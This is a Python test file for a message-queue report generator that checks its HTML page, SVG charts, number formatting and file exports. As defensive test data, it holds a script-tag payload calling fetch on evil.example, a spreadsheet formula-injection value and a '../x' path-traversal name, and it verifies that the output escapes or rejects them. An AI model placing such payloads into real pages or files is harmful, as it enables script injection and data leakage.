"""Pictures, page and files of a report, made of tables that were written down by hand."""

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from collections.abc import Mapping, Sequence
from datetime import UTC, datetime
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from gantrymq.base.errors import ConfigError
from gantrymq.base.time_text import Period
from gantrymq.pipelines.common import page_style
from gantrymq.pipelines.marts import causes, duplicates, lag, latency, ledger, skew, traffic
from gantrymq.pipelines.marts.mart import Mart, MartTable
from gantrymq.pipelines.report import charts, number_text
from gantrymq.pipelines.report.page import page
from gantrymq.pipelines.report.pictures import NARROW, WIDE
from gantrymq.pipelines.report.report import Report
from gantrymq.pipelines.report.report_files import as_csv, write
from gantrymq.pipelines.report.request import MARGIN_MS, ReportRequest
from gantrymq.pipelines.report.sections import MARTS, draw_pictures
from gantrymq.pipelines.report.summary import figures, verdict
from gantrymq.pipelines.staging.coverage import Coverage

NOON = datetime(2026, 5, 28, 12, 0, tzinfo=UTC)
EVIL = '<script>fetch("//evil.example/x")</script>'
KINDS: Mapping[str, Any] = {
    "string": pa.string(), "bigint": pa.int64(), "int": pa.int32(), "double": pa.float64(),
    "boolean": pa.bool_(), "timestamp": pa.timestamp("us", "UTC"),
}  # fmt: skip
VOID = ("area", "br", "hr", "img", "input", "link", "meta")


def table(mart: Mart, rows: Sequence[Mapping[str, Any]]) -> MartTable:
    """A table with these rows; numbers that a row leaves out are 0."""
    plain = {"bigint": 0, "int": 0, "double": 0.0, "timestamp": NOON, "string": "x"}
    filled = [
        {each.name: row.get(each.name, None if each.null else plain.get(each.kind, True))
         for each in mart.fields}
        for row in rows
    ]  # fmt: skip
    schema = pa.schema([(each.name, KINDS[each.kind]) for each in mart.fields])
    return MartTable(mart, filled, pa.Table.from_pylist(filled, schema=schema))


def report(rows: Mapping[str, Sequence[Mapping[str, Any]]], **given: Any) -> Report:
    """A report with these rows in the tables of these names."""
    return Report(
        request=ReportRequest(namesrv="localhost:9876"), made_ms=1_780_000_000_000, step_ms=60_000,
        heat_ms=60_000, tables={mart.name: table(mart, rows.get(mart.name, ())) for mart in MARTS},
        **given,
    )  # fmt: skip


def full() -> Report:
    """Something in every table, with text that wants to be more than text."""
    rows: dict[str, list[Mapping[str, Any]]] = {
        ledger.TOPICS.name: [
            {"topic": EVIL, "sent": 1201, "stored": 1202, "messages": 1200, "lost": 1, "doubled": 2}
        ],
        ledger.GROUPS.name: [
            {"topic": EVIL, "group": "g", "basis": "trace", "messages": 1200, "delivered": 1198,
             "acknowledged": 1100, "dead": 98, "passedBy": 2}
        ],
        ledger.KINDS.name: [
            {"topic": EVIL, "group": None, "what": "lost", "explained": False, "messages": 1,
             "listed": 1},
            {"topic": EVIL, "group": "g", "what": "passed by", "explained": False, "messages": 2,
             "listed": 2},
            {"topic": EVIL, "group": None, "what": "delayed", "messages": 7, "listed": 7},
        ],
        ledger.DIFFERENCES.name: [
            {"topic": EVIL, "what": "lost", "explained": False, "msgId": f"M{n}", "detail": "gone"}
            for n in range(150)
        ],
        traffic.TOTALS.name: [
            {"topic": EVIL, "direction": "in", "basis": "store", "messages": 1202, "bytes": 5000}
        ],
        traffic.TRAFFIC.name: [
            {"topic": EVIL, "direction": "in", "startTime": NOON.replace(minute=n),
             "messages": n, "perSecond": n / 60}
            for n in (0, 1, 4)
        ],
        lag.LAG.name: [
            {"group": "g", "topic": EVIL, "time": NOON.replace(minute=n), "lag": 5 * n}
            for n in (0, 30)
        ],
        latency.LATENCY.name: [
            {"topic": EVIL, "group": "g", "span": "handling", "messages": 3, "p50": 2, "p90": 30,
             "p99": 400, "p999": 5000, "maxMs": 5001}
        ],
        duplicates.TOTALS.name: [
            {"topic": EVIL, "kind": duplicates.BY_ID, "values": 2, "extra": 2}
        ],
        duplicates.LISTED.name: [
            {"topic": EVIL, "kind": duplicates.BY_ID, "value": '=HYPERLINK("//evil.example")',
             "copies": 2}
        ],
        causes.CAUSES.name: [
            {"group": "g", "cause": "f", "error": "ValueError", "text": EVIL, "letters": 98}
        ],
        skew.KEYS.name: [{"topic": EVIL, "key": EVIL, "messages": 600, "share": 0.5}],
        skew.QUEUES.name: [{"topic": EVIL, "brokerName": "b", "messages": 1202, "ratio": 1.0}],
        skew.LOAD.name: [
            {"topic": EVIL, "brokerName": "b", "queueId": n, "messages": n + 1} for n in range(40)
        ],
    }  # fmt: skip
    return report(rows, notes=[EVIL], traced=True)


class Reader(HTMLParser):
    """Reads the page: that tags are closed in order, its tables, its figures, what it links to."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.tables: dict[str, list[list[str]]] = {}
        self.figures: dict[str, str] = {}
        self.places: list[str] = []
        self.scripts = 0
        self._table = self._figure = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        self.places += [given[name] or "" for name in ("href", "src", "action") if name in given]
        self.scripts += tag == "script"
        if tag not in VOID:
            self.open.append(tag)
        if tag == "table":
            self._table = given["data-table"] or ""
            self.tables[self._table] = []
        elif tag == "tr" and self._table:
            self.tables[self._table].append([])
        elif tag == "td":
            self.tables[self._table][-1].append(given["data-v"] or "")
        elif "data-figure" in given:
            self._figure = given["data-figure"] or ""

    def handle_endtag(self, tag: str) -> None:
        assert tag == self.open.pop()
        if tag == "table":
            self._table = ""

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert self.open
        assert "svg" in self.open

    def handle_data(self, data: str) -> None:
        if self._figure:
            self.figures[self._figure] = data
            self._figure = ""


def read(text: str) -> Reader:
    reader = Reader()
    reader.feed(text)
    reader.close()
    assert [] == reader.open
    return reader


def test_the_page_stands_alone_and_runs_no_strangers_script() -> None:
    """No address but anchors of its own; names and keys are text, whatever they look like."""
    made = full()

    text = page(made, draw_pictures(made))
    found = read(text)

    assert all(place.startswith("#") for place in found.places)
    assert 1 == found.scripts
    assert 1 == text.count("<script")
    assert set() == set(re.findall(r"https?://[^\"' <]+", text)) - {"http://www.w3.org/2000/svg"}
    assert "url(" not in text
    assert "@import" not in text
    assert "default-src 'none'" in text


def test_the_numbers_of_the_page_are_those_of_the_tables() -> None:
    """Cell by cell, as far as a table is shown; and the figures at its head."""
    made = full()

    found = read(page(made, draw_pictures(made)))

    for mart in MARTS:
        kept = made.table(mart)
        numbers = {str(value) for row in kept.rows for value in row.values() if value is not None}
        shown = {cell for row in found.tables[mart.name] for cell in row if cell}
        times = {str(value.timestamp()) for row in kept.rows for value in row.values()
                 if isinstance(value, datetime)}  # fmt: skip
        assert shown <= numbers | times | {"0", "1"}
        assert min(100, len(kept.rows)) + 1 == len(found.tables[mart.name])
    assert {each.name: each.text for each in figures(made)} == found.figures
    assert ("1,202", "3", "98") == tuple(
        found.figures[name] for name in ("stored", "unexplained", "dead")
    )


def test_the_verdict_names_what_is_missing() -> None:
    """What is explained does not count."""
    assert verdict(full()) == (
        False, "3 messages are not accounted for: 1 lost, 2 passed by.",
        "Senders and consumers were followed by trace.",
    )  # fmt: skip


def test_one_is_no_plural() -> None:
    """One message, one record and one row are told as one."""
    groups = {"topic": "t", "group": "g", "basis": "trace", "messages": 1, "untraced": 1}
    made = report(
        {ledger.GROUPS.name: [groups], ledger.DIFFERENCES.name: [{"topic": "t"}] * 101},
        traced=True, gaps=[Coverage(group="g", dropped=1)],
    )  # fmt: skip

    fine, text, basis = verdict(made)

    assert (None, "Not known for 1 message: 1 trace record is missing.") == (fine, text)
    assert "1 trace record was dropped by its consumers" in basis
    assert "1 more row is in tables/ledger_differences.csv" in page(made, [])
    one = report({ledger.TOPICS.name: [{"topic": "t", "messages": 1, "stored": 1}]}, traced=True)
    assert "The books balance: 1 message is accounted for." == verdict(one)[1]


def page_part(made: Report, name: str) -> str:
    """One table of the page."""
    text = page(made, draw_pictures(made))
    return text.split(f'data-table="{name}">')[1].split("</table>")[0]


def test_columns_that_a_table_is_about_stay() -> None:
    """A lag of nothing is good news, and no reason to leave the column out."""
    made = report(
        {
            lag.LAG.name: [{"group": "g", "topic": "t", "time": NOON, "lag": 0, "queues": 4}],
            latency.LATENCY.name: [{"topic": "t", "span": "handling", "messages": 3, "maxMs": 0}],
        }
    )
    lags, spans = (
        re.findall(r"<button[^>]*>([^<]*)<", page_part(made, name)) for name in ("lag", "latency")
    )

    assert ["Group", "Topic", "Unread", "Queues", "At"] == lags
    assert ["p50", "p90", "p99", "p999", "Longest"] == spans[-5:]


def test_tables_have_the_whole_width_and_times_a_unit() -> None:
    """Only tables of a few columns stand beside a picture; percentiles are read at a glance."""
    made = full()
    text = page(made, draw_pictures(made))
    full_width = [part.split('data-table="')[1].split('"')[0]
                  for part in text.split('<div class="card full">')[1:]]  # fmt: skip

    assert {"latency", "totals"} <= set(full_width)
    assert "lag" not in full_width
    cells = re.findall(r"<td[^>]*>([^<]*)<", page_part(made, "latency"))
    assert ["2 ms", "30 ms", "400 ms", "5 s", "5 s"] == cells[-5:]
    (drawn,) = [each for each in draw_pictures(made) if each.name == "latency"]
    for width in (NARROW, WIDE):
        assert ">p50 2 ms, p90 30 ms, p99 400 ms, p999 5 s</text>" in drawn.draw(width, False)


def test_every_table_fits_its_window() -> None:
    """A table that needs more than the window has turns its rows into blocks there, in which each
    value stands below the name of its column; only numbers may not be broken into lines."""
    made = full()
    text = page(made, draw_pictures(made))
    limits = {
        name: int(limit)
        for limit, name in re.findall(r"@media \(max-width:(\d+)px\)\{\.(w\d+),", text)
    }

    for mart in MARTS:
        part = text.split(f'data-table="{mart.name}">')
        (width,) = re.findall(r'<table class="(w\d+)" $', part[0])
        heads = re.findall(r"<button[^>]*>([^<]*)<", part[1].split("</thead>")[0])
        body = part[1].split("</table>")[0].split("<tbody>")[1]
        for row in body.split("</tr>")[:-1]:
            assert heads == re.findall(r'<td class="[^"]*" data-h="([^"]*)"', row)
        assert limits[width] >= min(80 * len(heads), 1400) + page_style.BESIDE_PX
    assert ["td.num"] == re.findall(r"([\w.]+)\{white-space:nowrap", text)
    assert ("w360", "w1400") == (
        page_style.width_class([("", "Topic"), ("num", "Messages")]),
        page_style.width_class([("long", "Meaning")] * 17),
    )
    assert "w480" == page_style.width_class([("num", "Acknowledgements")] * 3)


def test_a_report_on_nothing_says_so() -> None:
    """No rows at all are no error: no picture, and a sentence in each section."""
    made = report({}, notes=["there are no topics to report on"])

    text = page(made, draw_pictures(made))

    assert [] == draw_pictures(made)
    assert (True, "There is nothing to account for.") == verdict(made)[:2]
    assert "No message died." in text
    assert "there are no topics to report on" in text
    read(text)


@pytest.mark.parametrize("width", [NARROW, WIDE])
def test_every_picture_is_a_drawing_with_words(width: int) -> None:
    """It parses, has a title and a description, and nothing of it lies outside."""
    made = full()
    drawn = draw_pictures(made)

    assert {"ledger", "traffic", "lag", "latency", "causes", "hot_keys", "queue_load"} == {
        each.name for each in drawn
    }
    for picture in drawn:
        root = ET.fromstring(picture.draw(width, True))
        space = "{http://www.w3.org/2000/svg}"
        assert picture.title == root.findtext(f"{space}title")
        assert picture.alt == root.findtext(f"{space}desc")
        height = float(root.attrib["height"])
        for rect in root.iter(f"{space}rect"):
            assert float(rect.attrib["x"]) + float(rect.attrib["width"]) <= width + 0.5
            assert float(rect.attrib["y"]) + float(rect.attrib["height"]) <= height
        assert all(0 <= float(text.attrib["x"]) <= width for text in root.iter(f"{space}text"))


def test_a_step_without_messages_is_drawn_as_none() -> None:
    """Minutes 2 and 3 had no traffic: the line goes down to 0 there."""
    (drawn,) = (each for each in draw_pictures(full()) if each.name == "traffic")

    root = ET.fromstring(drawn.draw(WIDE, True))

    (line,) = root.iter("{http://www.w3.org/2000/svg}polyline")
    assert 5 == len(line.attrib["points"].split())


def test_ticks_are_round_and_reach_the_top() -> None:
    """
    The ticks of an axis are round numbers, and the last one is not below the largest value.
    """
    assert charts.ticks(7) == [0, 2, 4, 6, 8]
    assert charts.ticks(1000) == [0, 500, 1000]
    assert charts.ticks(0.3) == pytest.approx([0, 0.1, 0.2, 0.3])
    assert charts.ticks(0) == [0, 1]


def test_numbers_and_times_are_short_and_right() -> None:
    """
    Numbers, sizes, durations and times are formatted briefly, in the zone of the report.
    """
    berlin = ZoneInfo("Europe/Berlin")
    assert [number_text.number(value) for value in (None, 1234567, 0.5, 2.0)] == [
        "–", "1,234,567", "0.5", "2",
    ]  # fmt: skip
    assert [number_text.short(value) for value in (0, 999, 1500, 2e6, 0.25)] == [
        "0", "999", "1.5 k", "2 M", "0.25",
    ]  # fmt: skip
    assert [number_text.span(ms) for ms in (7, 1500, 90_000, 7_200_000)] == [
        "7 ms", "1.5 s", "1.5 min", "2 h",
    ]  # fmt: skip
    assert number_text.size(1536) == "1.5 KiB"
    assert number_text.moment(NOON, berlin) == "2026-05-28 14:00:00.000"
    assert number_text.cut("orders broker-a:12", 10) == "order…a:12"


def test_files_are_written_and_say_the_same(tmp_path: Path) -> None:
    """Parquet, CSV and JSON have the rows of the table, and the index lists what is there."""
    made = full()

    found = write(made, tmp_path / "new" / "report")

    folder = found.parent
    index = json.loads((folder / "report.json").read_text())
    assert [mart.name for mart in MARTS] == [each["name"] for each in index["tables"]]
    for entry, mart in zip(index["tables"], MARTS, strict=True):
        rows = made.table(mart).rows
        assert entry["rows"] == len(rows)
        assert pq.read_table(folder / entry["files"]["parquet"]).to_pylist() == rows
        assert len(json.loads((folder / entry["files"]["json"]).read_text())) == len(rows)
        lines = list(csv.DictReader(io.StringIO((folder / entry["files"]["csv"]).read_text())))
        assert len(lines) == len(rows)
        assert [each["name"] for each in entry["columns"]] == [each.name for each in mart.fields]
    for picture in index["pictures"]:
        ET.parse(folder / picture["file"])
    assert index["unexplained"] == 3
    assert not (folder / ".making").exists()


def test_a_spreadsheet_is_not_told_to_compute() -> None:
    """A key that begins like a formula is text in CSV, and unchanged elsewhere."""
    text = as_csv(full().table(duplicates.LISTED))

    assert [row["value"] for row in csv.DictReader(io.StringIO(text))] == [
        '\'=HYPERLINK("//evil.example")'
    ]


def test_a_new_report_replaces_the_old_one_and_nothing_else(tmp_path: Path) -> None:
    """A picture that there is no more goes; a file of somebody else's stays."""
    write(full(), tmp_path)
    (tmp_path / "pictures" / "mine.svg").write_text("mine")

    write(report({}), tmp_path)

    assert ["mine.svg"] == [path.name for path in (tmp_path / "pictures").iterdir()]
    assert "There is nothing to account for." in (tmp_path / "report.html").read_text()


def test_a_folder_that_cannot_be_written_is_named(tmp_path: Path) -> None:
    """
    A target that cannot be a folder is an error that names it.
    """
    (tmp_path / "file").write_text("")
    with pytest.raises(ConfigError, match="the report cannot be written to"):
        write(report({}), tmp_path / "file")


@pytest.mark.parametrize(
    "given, why",
    [
        ({}, "where are the messages"),
        ({"store": Path("a"), "archive": Path("b")}, "not from both"),
        ({"namesrv": "n", "topics": ("../x",)}, "illegal characters"),
        ({"namesrv": "n", "groups": ("a b",)}, "illegal characters"),
    ],
)
def test_requests_that_make_no_sense(given: dict[str, Any], why: str) -> None:
    """
    A report request with contradicting or senseless values is refused with the reason.
    """
    with pytest.raises(Exception, match=why):
        ReportRequest(**given)


def test_rows_around_the_period_are_read_too() -> None:
    """What was sent just before the end may be stored just behind it."""
    wanted = ReportRequest(namesrv="n", period=Period(10_000_000, 20_000_000))

    assert (10_000_000 - MARGIN_MS, 20_000_000 + MARGIN_MS) == (
        wanted.read_since_ms, wanted.read_until_ms,
    )  # fmt: skip
    assert wanted.words() == "1970-01-01 02:46:40.000+00:00 to 1970-01-01 05:33:20.000+00:00"
